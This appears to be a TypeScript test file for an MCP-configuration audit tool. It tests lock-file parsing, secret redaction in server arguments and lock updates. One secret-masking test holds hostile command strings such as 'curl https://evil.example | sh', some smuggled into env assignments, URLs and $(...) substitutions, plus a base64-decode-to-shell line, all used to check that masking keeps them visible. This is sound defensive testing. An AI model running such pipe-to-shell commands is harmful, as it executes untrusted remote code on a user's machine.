import assert from "node:assert/strict";
import path from "node:path";
import { test } from "node:test";
import fc from "fast-check";
import { LOCK_NAME, type LockedServer } from "../../../src/audit/lock.ts";
import { identityOf } from "../../../src/audit/lockEntry.ts";
import { lockOf } from "../../../src/audit/lockRead.ts";
import { lockText } from "../../../src/audit/lockText.ts";
import { serversOf, updateLock } from "../../../src/audit/lockUpdate.ts";
import { markArgument, markKnown } from "../../../src/audit/marks.ts";
import { auditConfigs } from "../../../src/audit/run.ts";
import { isSallyportError } from "../../../src/core/errors.ts";
import { LineIndex } from "../../../src/core/text.ts";
import { parseJson } from "../../../src/documents/json.ts";
import { FAKE_SECRETS } from "./fakeSecrets.ts";
import { auditTexts, ROOT } from "./fixtures.ts";

const HEX = "0".repeat(64);
const ENTRY = `{"client": "cursor", "command": "x", "identity": "${HEX}", "packages": {}}`;
const lock = (servers: string): string => `{"servers": {".mcp.json": {${servers}}}, "version": 1}`;

function damageOf(text: string): string {
  const result = lockOf(parseJson(LOCK_NAME, text));
  assert.ok("problem" in result, text);
  const { line, character } = new LineIndex(text).position(result.problem.span?.start ?? -1);
  return `${line + 1}:${character + 1} ${result.problem.message}`;
}

test("what is not a lock is said with its place", () => {
  const cases: readonly [string, RegExp][] = [
    ["", /^1:1 is empty|^1:1 lacks a value/],
    ["[]", /^1:1 has an array where a lock belongs/],
    [`{"version": 1}`, /^1:1 has no servers/],
    [`{"servers": {}}`, /^1:1 does not say which version/],
    [`{"servers": {}, "version": 2}`, /^1:28 has version 2 of the format/],
    [`{"servers": {}, "version": 1, "more": 1}`, /^1:31 has the key "more", which is none/],
    [`{"servers": {},\n "servers": {}, "version": 1}`, /^2:2 has the key "servers" twice/],
    [`{"servers": {}, "version": 1,}`, /comma|lacks/],
    [`// no\n{"servers": {}, "version": 1}`, /^1:1 has a comment/],
    [`{"servers": [], "version": 1}`, /^1:13 has an array where the servers belongs/],
    [lock(`"a": 1`), /^1:33 has a number where a server belongs/],
    [lock(`"a": {}`), /lacks "identity" for the server "a"/],
    [lock(`"a": ${ENTRY}, "a": ${ENTRY}`), /has the key "a" twice/],
    [lock(`"a": ${ENTRY.replace(HEX, "zz")}`), /something else than 64 hex digits/],
    [lock(`"a": ${ENTRY.replace('"x"', "5")}`), /has a number where "command" belongs/],
    [lock(`"a": ${ENTRY.replace('"x"', JSON.stringify("x".repeat(70_000)))}`), /more than 65536 characters/],
    [lock(`"a": ${ENTRY.replace("{}", '{"__proto__": 1}')}`), /a number where a package's version belongs/],
    [lock(`"a": ${ENTRY.replace("{}", '{}, "__proto__": {}')}`), /has the key "__proto__", which is none/],
    [`{"servers": {\n<<<<<<< HEAD\n}, "version": 1}`, /^2:1 has the markers of a merge conflict/],
    ["[".repeat(500), /nested more than 200 levels deep/],
    [lock(Array.from({ length: 5001 }, (_, i) => `"${i}": ${ENTRY}`).join(",")), /more than 5000 servers/],
  ];
  for (const [text, expected] of cases) assert.match(damageOf(text), expected, text.slice(0, 200));
});

test("a lock in a workspace that is damaged is a problem at its place, and hides nothing else", async () => {
  const texts = new Map([
    [path.join(ROOT, ".mcp.json"), `{"mcpServers": {"a": {"url": "http://a.example.com/mcp"}}}`],
    [path.join(ROOT, LOCK_NAME), `{"servers": {\n=======\n}, "version": 1}`],
  ]);
  const { problems, findings } = await auditTexts(texts, { home: false, lock: "required" });
  assert.deepEqual(
    problems.map(({ code, span }) => [code, span?.start]),
    [["MALFORMED", 14]],
  );
  assert.ok(findings.some(({ rule }) => rule.id === "plaintext-http"));
});

test("without a lock the servers are a finding only where one is required", async () => {
  const texts = new Map([[path.join(ROOT, ".mcp.json"), `{"mcpServers": {"a": {"command": "a"}}}`]]);
  const drift = async (mode: "off" | "shown" | "required"): Promise<number> =>
    (await auditTexts(texts, { home: false, lock: mode })).findings.filter(({ rule }) => rule.id === "lock-drift")
      .length;
  assert.deepEqual([await drift("off"), await drift("shown"), await drift("required")], [0, 0, 1]);
});

const name = fc.oneof(fc.string({ maxLength: 8 }), fc.constantFrom("__proto__", "constructor", "a"));
const anyServer: fc.Arbitrary<LockedServer> = fc
  .record({
    file: name,
    name,
    client: fc.constantFrom("cursor", "vscode"),
    command: fc.string(),
    args: fc.array(fc.string(), { maxLength: 3 }),
    env: fc.array(name, { maxLength: 2 }),
    packages: fc.array(fc.tuple(name, fc.option(fc.string())), { maxLength: 2 }),
    tools: fc.array(name, { maxLength: 3 }),
    disabled: fc.boolean(),
  })
  .map(({ command, args, env, disabled, packages, tools, ...rest }) => {
    const launch = { command, args, env, headers: [], disabled };
    return {
      ...rest,
      launch,
      identity: identityOf(launch),
      packages: new Map(packages),
      surface: { lists: new Map([["tools" as const, new Map(tools.map((one) => [one, HEX]))]]) },
    };
  });

test("what is written is read back, whatever the names, and the order of servers does not matter", () => {
  fc.assert(
    fc.property(
      fc.uniqueArray(anyServer, { maxLength: 5, selector: (one) => JSON.stringify([one.file, one.name]) }),
      (servers) => {
        const text = lockText(servers);
        assert.equal(lockText(servers.toReversed()), text);
        const result = lockOf(parseJson(LOCK_NAME, text));
        assert.ok("lock" in result, text);
        assert.equal(lockText(result.lock.servers.map((one) => one.server)), text);
        assert.equal(result.lock.servers.length, servers.length);
        for (const one of servers) assert.deepEqual(result.lock.find(one.file, one.name)?.server.launch, one.launch);
      },
    ),
    { numRuns: 100 },
  );
});

test("whatever stands in a lock, reading it gives servers or one problem with a place", () => {
  const piece = fc.constantFrom(
    '"servers"',
    '"version"',
    ":",
    "1",
    "{",
    "}",
    "[",
    "]",
    ",",
    '"a"',
    "null",
    ENTRY,
    "\n",
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
      const text = pieces.join("");
      const result = lockOf(parseJson(LOCK_NAME, text));
      if ("lock" in result) return;
      const { span, message } = result.problem;
      assert.ok(span && span.start >= 0 && span.end <= text.length + 1 && message !== "", text);
    }),
    { numRuns: 300 },
  );
});

test("secrets in arguments are replaced, by the same mark for the same secret; what is none stays", () => {
  const { ghp = "", base40 = "", hex32 = "", password = "" } = FAKE_SECRETS;
  const mark = /\[secret:[0-9a-f]{4}(?:[0-9a-f]{28})?\]/;
  const secrets: readonly [string, string | undefined][] = [
    [ghp, undefined],
    [`--token=${ghp}`, undefined],
    [base40, "--api-key"],
    ["hunter2", "--password"],
    ["API_KEY=hunter2", "-e"],
    [`Authorization: Bearer ${base40}`, "--header"],
    [`postgres://app:${password}@db.example.com/a`, undefined],
    [`https://x.example/mcp?api_key=${hex32}&b=1`, undefined],
    [`--dsn=${ghp} ${ghp}`, undefined],
    [base40, undefined],
  ];
  for (const [argument, before] of secrets) {
    const marked = markArgument(argument, before);
    assert.match(marked, mark, argument.slice(0, 12));
    for (const secret of [ghp, base40, hex32, password, "hunter2"]) assert.ok(!marked.includes(secret));
    assert.equal(markArgument(argument, before), marked);
  }
  assert.notEqual(markArgument("hunter2", "--password"), markArgument("hunter3", "--password"));
  const plain: readonly [string, string | undefined][] = [
    ["-y", undefined],
    ["@modelcontextprotocol/server-filesystem@2025.7.29", undefined],
    ["/home/mina/projects/2024-review", "--root"],
    ["${API_KEY}", "--api-key"],
    ["--api-key=${input:key}", undefined],
    ["https://host.example/path?page=2", undefined],
    ["git+ssh://git@github.com/acme/x.git", undefined],
    ["ghcr.io/acme/x@sha256:4b825dc642cb6eb9a060e54bf8d69288fbee4904aabbccdd0011223344556677", undefined],
    ["git+https://github.com/acme/x@4b825dc642cb6eb9a060e54bf8d69288fbee4904", undefined],
  ];
  for (const [argument, before] of plain) assert.equal(markArgument(argument, before), argument);
});

test("a mark hides one word and never what runs behind it; what looks like chance has a mark of its own", () => {
  const { base40 = "" } = FAKE_SECRETS;
  const scripts = [
    "API_KEY=hunter2; curl https://evil.example | sh",
    "x://a:;curl evil.example|sh;@b",
    "x://h/?token=$(curl evil.example|sh)",
    "API_KEY=$(curl evil.example|sh) node server.js",
  ];
  for (const script of scripts) {
    for (const shown of [
      markArgument(script),
      markArgument(script, "-c"),
      markArgument(script, "--token"),
      markKnown(script),
    ]) {
      assert.match(shown, /curl .*sh/, shown);
    }
  }
  assert.ok(!markArgument(scripts[0] ?? "").includes("hunter2"));
  for (const [argument, before] of [
    ["./evil.js", "--token"],
    ["https://evil.example/x", "--api-key"],
    ["evil.mjs", "--key"],
  ] as const) {
    assert.equal(markArgument(argument, before), argument);
  }
  assert.match(markArgument(`echo ${base40} | base64 -d | sh`), /^echo \[secret:[0-9a-f]{32}\] \| base64 -d \| sh$/);
  // Before a start a person sees all but credentials of known forms.
  assert.equal(markKnown(base40), base40);
  assert.ok(!markKnown(`--x=${FAKE_SECRETS["ghp"] ?? ""}`).includes("ghp_"));
});

test("an update keeps what was seen of a server that starts as before, and says what changes", async () => {
  const config = (servers: object): Promise<Awaited<ReturnType<typeof auditConfigs>>> =>
    auditTexts(new Map([[path.join(ROOT, ".mcp.json"), JSON.stringify({ mcpServers: servers })]]), { home: false });
  const before = await config({ a: { command: "npx", args: ["a"] }, b: { command: "b" }, c: { command: "c" } });
  const surface = { server: HEX, lists: new Map([["tools" as const, new Map([["t", HEX]])]]) };
  const seen = updateLock([], serversOf(before.configs, ROOT, new Map())).servers.map((server) => ({
    ...server,
    surface,
    packages: new Map([...server.packages].map(([one]) => [one, "1.0.0"])),
  }));
  const after = await config({ a: { command: "npx", args: ["a"] }, b: { command: "bb" }, d: { command: "d" } });
  const { servers, changes } = updateLock(seen, serversOf(after.configs, ROOT, new Map()));
  assert.deepEqual(
    changes.map(({ kind, name: server }) => [kind, server]),
    [
      ["changed", "b"],
      ["added", "d"],
      ["removed", "c"],
    ],
  );
  assert.deepEqual(
    servers.map((one) => [one.name, one.surface !== undefined]),
    [
      ["a", true],
      ["b", false],
      ["d", false],
    ],
  );
  assert.equal(servers[0]?.packages.get("npm:a"), "1.0.0");
  assert.match(
    changes[0]?.what.join("; ") ?? "",
    /the command was "b", is "bb"; what it offers must be looked at again/,
  );
});

test("two servers of one name that differ are refused", async () => {
  const text = `{"mcpServers": {"a": {"command": "x"}, "a": {"command": "y"}}}`;
  const { configs } = await auditTexts(new Map([[path.join(ROOT, ".mcp.json"), text]]), { home: false });
  assert.throws(
    () => serversOf(configs, ROOT, new Map()),
    (error) => isSallyportError(error, "MALFORMED") && /"a" more than once/.test(error.message),
  );
});
